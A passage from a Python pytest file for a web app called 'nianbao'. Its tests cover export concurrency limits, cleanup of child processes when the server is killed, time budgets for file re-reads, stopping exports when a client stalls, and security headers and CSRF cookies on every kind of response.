                return {"type": "http.request", "body": b"", "more_body": False}
            return {"type": "http.disconnect"}

        async def send(message: dict) -> None:
            messages.append(message)

        scope = {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.3"},
            "http_version": "1.1",
            "method": "GET",
            "scheme": "http",
            "path": "/export/values.xlsx",
            "raw_path": b"/export/values.xlsx",
            "query_string": b"",
            "root_path": "",
            "headers": [(b"host", b"testserver")],
            "client": ("127.0.0.1", 5000),
            "server": ("testserver", 80),
            "state": {},
            "app": app,
        }
        await app(scope, receive, send)

    asyncio.run(run())
    assert messages and messages[0]["type"] == "http.response.start"
    # every export slot is free again: the producer ended
    got = 0
    for _ in range(10):
        if st.export_slots.acquire(timeout=30):
            got += 1
        if got == 2:
            break
    assert got == 2
    for _ in range(got):
        st.export_slots.release()


def test_exports_at_once_are_limited(site: tuple[Any, TestClient, dict]) -> None:
    app, client, _ = site
    st = app.state.web
    taken = 0
    while st.export_slots.acquire(blocking=False):
        taken += 1
    try:
        r = client.get("/api/v1/export/values?format=csv")
        assert r.status_code == 503 and "导出过多" in r.json()["error"]
    finally:
        for _ in range(taken):
            st.export_slots.release()
    assert client.get("/api/v1/export/values?format=csv").status_code == 200


_ORPHAN_SCRIPT = """
import multiprocessing, sys, threading, time
from nianbao.web import services as sv
threading.Thread(target=sv.run_with_budget, args=(time.sleep, (600,), 900), daemon=True).start()
while not multiprocessing.active_children():
    time.sleep(0.05)
print(multiprocessing.active_children()[0].pid, flush=True)
time.sleep(600)
"""


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc")
def test_parse_child_ends_when_the_server_dies() -> None:
    import os
    import signal
    import subprocess
    import sys

    proc = subprocess.Popen(
        [sys.executable, "-c", _ORPHAN_SCRIPT], stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None
        child = int(proc.stdout.readline())
        assert _alive(child)
        os.kill(proc.pid, signal.SIGKILL)  # the server is killed with -9
        proc.wait()
        for _ in range(600):
            if not _alive(child):
                break
            time.sleep(0.05)
        assert not _alive(child), "the parse child outlived the server"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def test_source_snippet_rereads_a_file_within_a_budget(site: tuple[Any, TestClient, dict]) -> None:
    import dataclasses

    app, client, ids = site
    st = app.state.web
    url = f"/api/v1/reports/{ids['txt']}/source/requests.new.total"
    saved = st.limits
    with sv._DOC_LOCK:
        sv._DOC_CACHE.clear()
    st.limits = dataclasses.replace(saved, file_seconds=0.0001)
    try:
        body = client.get(url).json()
        assert body["present"] and "无法重新读取" in (body["note"] or "")
        assert body["raw"] is not None  # the stored reading is still shown
        page = client.get(
            f"/reports/{ids['txt']}/source/requests.new.total", headers={"HX-Request": "true"}
        )
        assert page.status_code == 200 and "无法重新读取" in page.text
    finally:
        st.limits = saved
    body = client.get(url).json()
    assert body["note"] is None and body["mark"] == body["raw"]  # read in time: marked
    # a few re-reads at once; beyond, 503
    taken = 0
    wait, st.pdf_wait = st.pdf_wait, 0.01
    try:
        while st.read_slots.acquire(blocking=False):
            taken += 1
        assert client.get(url).status_code == 503
    finally:
        for _ in range(taken):
            st.read_slots.release()
        st.pdf_wait = wait


def test_export_producer_stops_when_the_client_stops_reading() -> None:
    from nianbao.web.api import pump

    stopped = threading.Event()
    slot = threading.BoundedSemaphore(1)
    slot.acquire()

    def produce(cancelled: Any) -> Iterator[bytes]:
        try:
            while not cancelled():
                yield b"x" * 1024
        finally:
            stopped.set()

    class _Reading:
        async def is_disconnected(self) -> bool:
            return False

    async def take_one_then_stall() -> None:
        gen = pump(_Reading(), produce, slot, poll=0.001, stall=0.5)  # type: ignore[arg-type]
        await gen.__anext__()
        # the client reads nothing more (and keeps the connection open)
        assert stopped.wait(60), "the producer waited for a client that reads nothing"
        await gen.aclose()

    asyncio.run(take_one_then_stall())
    assert slot.acquire(timeout=30)


def test_security_headers_on_every_kind_of_response(tmp_path: Path) -> None:
    """Pages, static files, API answers, errors, the private wall and a crash all carry the
    security headers; the CSRF cookie comes once, to a client that has none."""
    want = {
        "x-content-type-options": "nosniff",
        "referrer-policy": "same-origin",
        "x-frame-options": "DENY",
    }

    def check(r: Any) -> None:
        for k, v in want.items():
            assert r.headers.get(k) == v, (r.request.url, k)
        assert "frame-ancestors 'none'" in r.headers.get("content-security-policy", "")

    app = create_app(str(tmp_path / "h.db"))

    @app.get("/boom-for-test")
    def boom() -> None:
        raise RuntimeError("boom")

    with TestClient(app, raise_server_exceptions=False) as client:
        first = client.get("/")
        check(first)
        assert CSRF_COOKIE in first.headers.get("set-cookie", "")
        again = client.get("/reports")
        check(again)
        assert "set-cookie" not in again.headers  # the cookie it has is valid
        for path, status in (
            ("/static/app.css", 200),
            ("/api/v1/health", 200),
            ("/no/such/page", 404),
            ("/api/v1/reports?limit=0", 422),
            ("/boom-for-test", 500),
        ):
            r = client.get(path)
            assert r.status_code == status, path
            check(r)
        assert "RuntimeError" in client.get("/boom-for-test").text
    private = create_app(str(tmp_path / "p.db"), private=True)
    with TestClient(private, follow_redirects=False) as client:
        wall = client.get("/reports")
        assert wall.status_code == 303 and wall.headers["location"].startswith("/login")
        check(wall)
        assert CSRF_COOKIE in wall.headers.get("set-cookie", "")
        api = client.get("/api/v1/reports")
        assert api.status_code == 401
        check(api)
